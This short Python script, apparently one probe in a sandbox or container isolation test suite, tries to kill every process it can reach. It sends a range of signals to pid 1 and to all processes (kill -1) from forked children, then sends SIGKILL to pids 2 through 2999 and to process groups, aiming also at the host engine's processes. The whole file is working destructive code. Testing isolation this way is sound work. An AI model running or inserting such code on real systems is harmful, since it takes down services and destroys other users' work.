"""Every signal to everybody: kill(-1), kill(0), pid 1, pidfds, process groups, and the pids of the host's engine."""
import os
import signal

from attack import done, set_name

set_name("atk-kill")
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):
    if os.fork() == 0:
        os.setsid()
        for target in (1, -1):
            try:
                os.kill(target, number)
            except OSError:
                pass
        os._exit(0)
    try:
        signal.signal(number, signal.SIG_IGN)
    except OSError:
        pass
for target in (*range(2, 3000), *range(-3000, -1)):
    if target in (os.getpid(), -os.getpgrp()):
        continue
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
done()
